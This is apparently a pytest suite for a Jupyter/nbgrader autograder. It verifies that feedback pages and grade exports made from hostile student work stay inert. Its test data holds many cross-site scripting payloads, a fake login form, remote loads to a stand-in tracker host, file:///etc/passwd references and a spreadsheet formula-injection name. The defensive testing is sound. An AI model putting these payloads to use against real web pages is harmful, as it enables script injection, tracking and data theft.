"""Feedback and grade tables made by real nbgrader from what hostile students wrote: nothing runs, loads or leaks.

Numbers in names are those of the list of faults.
"""

from __future__ import annotations

import csv
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import nbgrader as nbgrader_package
import pytest
from nbformat import v4
from nbgrader.api import Gradebook
from tiny_course import NAME, STUB, answered, at, config, hand_in, nbgrader, release

from autograder.course import open_course
from autograder.pipeline.feedback import safe_page, sanitize_output
from autograder.pipeline.feedback_age import outdated_feedback
from autograder.pipeline.safe_html import sanitize_html, sanitize_markdown
from course_utils.checks.check_report import MIMETYPE

EVIL = "http://tracker.invalid"
HOSTILE_HTML = f"""<b>kept words</b>
<script>window.ran = 1; fetch("{EVIL}/fetch")</script>
<img src=x onerror="window.ran = 2"><img src="{EVIL}/pixel.png" srcset="{EVIL}/set.png 2x">
<svg onload="window.ran = 3"><script>window.ran = 4</script><image href="{EVIL}/svg.png"/></svg>
<svg><style><img src=x onerror="window.ran = 5"></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=6&gt;"></math>
<a href="javascript:window.ran = 7" id="bad-link">click me</a><a href="java&#10;script:window.ran = 8">or me</a>
<a href="data:text/html,<script>window.ran = 9</script>">or me</a><div onclick="window.ran = 10">div</div>
<iframe src="{EVIL}/frame"></iframe><iframe srcdoc="<script>parent.ran = 11</script>"></iframe>
<object data="{EVIL}/object"></object><embed src="{EVIL}/embed"><link rel="stylesheet" href="{EVIL}/style.css">
<style>@import url({EVIL}/import.css); body {{ display: none }}</style>
<div style="position: fixed; inset: 0; background: url({EVIL}/background.png)">cover</div>
<meta http-equiv="refresh" content="0; url={EVIL}/refresh"><base href="{EVIL}/">
<form action="{EVIL}/form"><input name="password" autofocus onfocus="window.ran = 12"><button>log in</button></form>
<img src="../../gradebook.db"><img src="file:///etc/passwd"><video src="{EVIL}/video" autoplay></video>
<template><script>window.ran = 13</script></template><noscript><p title="</noscript><img src=x onerror=window.ran=14>">
</div></div></div></div></div></div></div></body></html><h1>Score: 1000</h1><b>open
"""
HOSTILE_MARKDOWN = f"""
<script>window.ran = 20</script> kept text <b onmouseover="window.ran = 21">bold</b>

![remote]({EVIL}/markdown.png) ![local](../../gradebook.db) ![passwd](/etc/passwd)

[link](javascript:window.ran=22) $\\unicode{{<img src=x onerror=window.ran=23>}}$

<iframe src="{EVIL}/markdown-frame"></iframe>

    indented code <script>

```
fenced

code
```
"""
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
REPORT = {
    "exercise": "double",
    "state": "wrong",
    "earned": 1.5,
    "points": 2,
    "headline": "✘ double: 1.5 of 2 points",
    "lines": [
        ["✘", "it doubles <b>negative</b> numbers: 0 of 0.5"],
        ["Likely cause", "You forgot <script>window.ran = 30</script> the sign."],
    ],
}


class Page(HTMLParser):
    """Every tag, attribute and text of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.inside = ""
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self.inside = tag

    def handle_endtag(self, tag):
        self.inside = ""

    def handle_data(self, data):
        if self.inside != "style":
            self.text += data


def assert_harmless(text: str) -> Page:
    page = Page(text)
    forbidden = {"script", "iframe", "object", "embed", "svg", "math", "base", "form", "input", "link", "video"}
    assert not forbidden & {tag for tag, _ in page.tags}
    for tag, attributes in page.tags:
        assert not [name for name in attributes if name.startswith("on")], (tag, attributes)
        assert (attributes.get("src") or "data:image/").startswith("data:image/")
        assert (attributes.get("href") or "#").startswith(("#", "http://", "https://", "mailto:"))
        assert "srcset" not in attributes
        assert "url(" not in (attributes.get("style") or "")
        assert "position" not in (attributes.get("style") or "")
    return page


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A graded class with feedback: an honest student, hostile outputs, and a hostile name."""
    folder = release(tmp_path_factory.mktemp("course"), config())
    hostile = answered(folder, double="def double(x):\n    return -1")
    place = at(hostile, "double")
    shows = [{"text/html": HOSTILE_HTML}, {"application/javascript": "window.ran = 40"}, {MIMETYPE: REPORT}]
    shows += [{"text/markdown": HOSTILE_MARKDOWN}, {"image/png": PIXEL}, {"image/svg+xml": "<svg onload='x()'/>"}]
    shows += [{"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/plain": "a widget <script>"}]
    shows += [{"image/png": f'x" onerror="window.ran=41" src="{EVIL}/png'}, {"text/latex": "$<script>x</script>$"}]
    shown = "\n".join(f"show({one!r})" for one in shows)
    hostile.cells[place:place] = [v4.new_code_cell(shown), v4.new_markdown_cell(HOSTILE_MARKDOWN)]
    lengthy = answered(folder)
    lengthy.cells[place:place] = [v4.new_code_cell("y = 1\n" * count) for count in (30_000, 16_000, 16_000)]
    hand_in(folder, "lengthy", lengthy)
    hand_in(folder, "honest", answered(folder))
    hand_in(folder, "hostile", hostile)
    if os.name == "posix":
        hand_in(folder, "x [a] <img src=x onerror=alert(1)>"[:30].replace("/", ""), answered(folder, square=STUB))
    done = nbgrader(folder, "autograde", NAME)
    assert done.returncode == 0, done.stderr
    leak_in_test_cell(folder)
    comment_on(folder, "hostile", "**well tried** <script>window.ran = 50</script>")
    done = nbgrader(folder, "generate_feedback", NAME)
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    return folder


def leak_in_test_cell(course: Path) -> None:
    """Give a graded notebook what a kernel may leave in it: prints, reports and tracebacks with hidden cases."""
    path = course / "autograded" / "hostile" / NAME / f"{NAME}.ipynb"
    nb = nbformat.read(path, as_version=4)
    test = nb.cells[at(nb, "test_double")]
    assert "double(7) == 14" in test.source
    traceback = ["---> 3 assert double(7) == 14", "AssertionError"]
    test.outputs = [
        v4.new_output("stream", name="stdout", text="called with the secret 7"),
        v4.new_output("display_data", {MIMETYPE: REPORT, "text/html": HOSTILE_HTML}),
        v4.new_output("error", ename="AssertionError", evalue="7 gives 14", traceback=traceback),
    ]
    nb.cells.append(v4.new_code_cell("1", outputs=[v4.new_output("display_data", {"text/html": HOSTILE_HTML})]))
    nb.cells[-1].outputs[0].metadata["text/html"] = {"isolated": True}
    path.chmod(0o644)
    nbformat.write(nb, path)


def comment_on(course: Path, student: str, text: str) -> None:
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        comment = gradebook.find_comment("double", NAME, NAME, student)
        comment.manual_comment = text
        gradebook.find_student(student).first_name = '=HYPERLINK("http://tracker.invalid","x")'
        gradebook.find_student(student).last_name = 'a,"b"\nc'
        gradebook.db.commit()


def page_of(course: Path, student: str) -> str:
    return (course / "feedback" / student / NAME / f"{NAME}.html").read_text("utf-8")


def test_case_87_nothing_runs_and_nothing_loads(course):
    page = assert_harmless(page_of(course, "hostile"))
    assert EVIL not in "".join(str(attributes) for _, attributes in page.tags)
    assert page.text.count("kept words") == 3  # in the cell's own text, its output, and the output put in later


def test_case_78_very_much_code_is_not_coloured(course):
    text = page_of(course, "lengthy")
    assert text.count("80000 more characters are not shown") == 1  # of the first cell
    assert len(re.findall("more characters are not shown", text)) > 2  # nor the rest of what is too much together
    assert text.count('<span class="n">y</span>') < 40_000


def test_case_87_formgrader_sees_cleaned_outputs(course):
    text = (course / "autograded" / "hostile" / NAME / f"{NAME}.ipynb").read_text("utf-8")
    nb = nbformat.reads(text, as_version=4)
    first = next(cell for cell in nb.cells if cell.source.startswith("show("))
    kinds = {kind for output in first.outputs for kind in output.data}
    assert not kinds & {"application/javascript", "application/vnd.jupyter.widget-view+json"}
    for output in first.outputs:
        assert_harmless(output.data.get("text/html", ""))


def test_case_87_the_page_forbids_what_is_left(course):
    page = Page(page_of(course, "honest"))
    policies = [a["content"] for tag, a in page.tags if a.get("http-equiv") == "Content-Security-Policy"]
    assert len(policies) == 1
    assert "default-src 'none'" in policies[0]
    assert "script-src" not in policies[0]
    assert "http" not in policies[0]


def test_case_87_nothing_is_taken_for_a_part_of_the_page():
    """Formgrader's page acts on classes and ids, and Bootstrap's styles lay some classes over all of it."""
    html = '<div class="full-credit navbar-fixed-top dataframe"><b class="k score">def</b></div>'
    html += '<a id="test_double" name="top" href="#test_double">my own report</a><a href="#">up</a>'
    clean = sanitize_html(html)
    page = assert_harmless(clean)
    assert [attributes.get("class") for _, attributes in page.tags] == ["dataframe", "k", None, None]
    places = {key: value for key, value in page.tags[2][1].items() if key in ("id", "name", "href")}
    assert places == {"id": "student-test_double", "name": "student-top", "href": "#student-test_double"}
    assert sanitize_html(clean) == clean
    static = Path(nbgrader_package.__file__).parent / "server_extensions" / "formgrader" / "static"
    assert '"click .full-credit"' in (static / "js" / "formgrade_models.js").read_text(encoding="utf-8")


def test_case_88_markdown_keeps_its_words(course):
    page = assert_harmless(page_of(course, "hostile"))
    assert "kept text" in page.text
    assert "fenced\n\ncode" in page.text
    assert "indented code <script>" in page.text


def test_case_89_no_local_file_is_embedded(course):
    text = page_of(course, "hostile")
    assert "root:" not in text
    assert "SQLite format" not in text
    assert not any("gradebook" in (a.get("src") or "") for _, a in Page(text).tags)


def test_case_90_comments_and_names_are_escaped(course):
    page = assert_harmless(page_of(course, "hostile"))
    assert ("strong", {}) in page.tags
    assert "well tried" in page.text
    for folder in (course / "feedback").iterdir():
        assert_harmless(page_of(course, folder.name))
    assert len(list((course / "feedback").iterdir())) == len(list((course / "submitted").iterdir()))


def test_case_91_the_table_holds_no_formula(course):
    done = nbgrader(course, "export", "--to", "grades.csv")
    assert done.returncode == 0, done.stderr
    with (course / "grades.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    hostile = next(row for row in rows if row["student_id"] == "hostile")
    assert hostile["first_name"].startswith("'=HYPERLINK")
    assert hostile["last_name"] == 'a,"b"\nc'
    assert float(hostile["score"]) == 3
    assert float(next(row for row in rows if row["student_id"] == "honest")["score"]) == 5


def test_case_92_feedback_is_each_students_own(course):
    assert "return -1" in Page(page_of(course, "hostile")).text
    assert "return -1" not in Page(page_of(course, "honest")).text
    assert "kept words" not in Page(page_of(course, "honest")).text


def test_the_list_of_scores_names_the_exercises(course):
    text = " ".join(Page(page_of(course, "honest")).text.split())
    assert "double (Score: 2.0 / 2.0) square (Score: 3.0 / 3.0)" in text
    assert "Test cell" not in text


def test_hidden_tests_are_absent(course):
    for student in ("honest", "hostile"):
        text = Page(page_of(course, student)).text
        assert "double(2) == 4" in " ".join(text.split())
        for hidden in ("double(7)", "== 14", "HIDDEN", "the secret 7", "7 gives 14"):
            assert hidden not in text


def test_a_report_is_written_anew_from_its_data(course):
    page = Page(page_of(course, "hostile"))
    assert "✘ double: 1.5 of 2 points" in page.text
    assert "it doubles <b>negative</b> numbers" in page.text
    reports = [a for _, a in page.tags if a.get("role") == "status"]
    assert reports
    assert all("border-left" in a["style"] for a in reports)


def test_a_failed_check_without_report_is_one_line(course):
    wrong = course / "feedback" / "x [a] <img src=x onerror=alert(1)>"[:30].replace("/", "")
    if os.name != "posix":
        pytest.skip("Windows has no such names")
    text = Page(page_of(course, wrong.name)).text
    assert "This check did not pass: NotImplementedError." in text or "This check did not pass: NameError" in text
    assert "Traceback" not in text


def test_in_a_browser_nothing_runs_and_no_request_leaves(course, browser):
    path = course / "feedback" / "hostile" / NAME / f"{NAME}.html"
    asked, said = [], []
    page = browser.new_page(viewport={"width": 1000, "height": 3000})
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
    page.goto(path.as_uri())
    page.mouse.move(200, 200)
    for link in page.get_by_text("click me").all():
        link.click(timeout=2000)
    page.wait_for_timeout(500)
    ran = page.evaluate("window.ran")
    here = page.url
    heading = page.locator("h4").first.inner_text()
    pictures = page.evaluate("[...document.images].filter(one => one.naturalWidth > 0).length")
    if target := os.environ.get("SCREENSHOTS"):
        page.screenshot(path=f"{target}/feedback.png", full_page=True)
    assert ran is None
    assert said == []
    assert [url for url in asked if not url.startswith(("data:image/", path.as_uri()))] == []
    assert here.split("#")[0] == path.as_uri()
    assert "Score: 3.0 / 5.0" in heading
    assert pictures >= 1


def test_the_browser_test_can_fail(tmp_path, browser):
    """The policy alone stops what the sanitizer would let through, and without it the script runs."""
    open_page = "<html><head><title>t</title></head><body></body></html>"
    script = "<script>window.ran = 1</script>"
    (tmp_path / "with.html").write_text(safe_page(open_page).replace("<body>", f"<body>{script}"), encoding="utf-8")
    (tmp_path / "without.html").write_text(open_page.replace("<body>", f"<body>{script}"), encoding="utf-8")
    page = browser.new_page()
    ran = {}
    for name in ("with", "without"):
        page.goto((tmp_path / f"{name}.html").as_uri())
        ran[name] = page.evaluate("window.ran")
    assert ran == {"with": None, "without": 1}


# --- the pieces -------------------------------------------------------------------------------------------------------


def test_cleaning_keeps_what_is_harmless():
    kept = f'<table border="1"><tr><td><b>1</b></td></tr></table><img src="data:image/png;base64,{PIXEL}" alt="a dot">'
    assert sanitize_html(kept).replace("<tbody>", "").replace("</tbody>", "") == kept
    assert sanitize_html("<b>open") == "<b>open</b>"
    assert sanitize_html("</div></body>words") == "words"


@pytest.mark.parametrize("source", ["# Title\n\n*words* `a < b` and $x < y$", "> quoted\n\n1. one", "a < b && c > d"])
def test_ordinary_markdown_is_left_alone(source):
    assert sanitize_markdown(source) == source


def test_a_report_with_wild_data_is_still_a_report():
    bad_lines = [7, [1], [[None, "<i>"], []]]
    for wild in [{"state": None}, *({"state": ["x"], "headline": {"a": 1}, "lines": lines} for lines in bad_lines)]:
        made = sanitize_output(v4.new_output("display_data", {MIMETYPE: wild}))
        assert made.data["text/html"].startswith("<div")
        assert "<i>" not in made.data["text/html"]


def test_huge_outputs_are_cut():
    huge = v4.new_output("display_data", {"text/plain": "x" * 1_000_000})
    assert len(sanitize_output(huge).data["text/plain"]) < 110_000


def modified(course: Path) -> dict[str, int]:
    return {path.name: (path / NAME / f"{NAME}.html").stat().st_mtime_ns for path in (course / "feedback").iterdir()}


def test_a_correction_reaches_its_student_and_remakes_no_other_page(course):
    """By the plain command: nbgrader alone would skip all that is there."""
    before = modified(course)
    assert nbgrader(course, "generate_feedback", NAME).returncode == 0
    assert modified(course) == before
    assert outdated_feedback(open_course(course, NAME)) == []
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        gradebook.find_grade("test_square", NAME, NAME, "honest").manual_score = 1.5
        gradebook.db.commit()
    assert outdated_feedback(open_course(course, NAME)) == ["honest"]
    assert nbgrader(course, "generate_feedback", NAME).returncode == 0
    assert {student for student, time in modified(course).items() if time != before[student]} == {"honest"}
    assert "square (Score: 1.5 / 3.0)" in " ".join(Page(page_of(course, "honest")).text.split())
    comment_on(course, "hostile", "mended")
    assert nbgrader(course, "generate_feedback", NAME).returncode == 0
    assert "mended" in Page(page_of(course, "hostile")).text
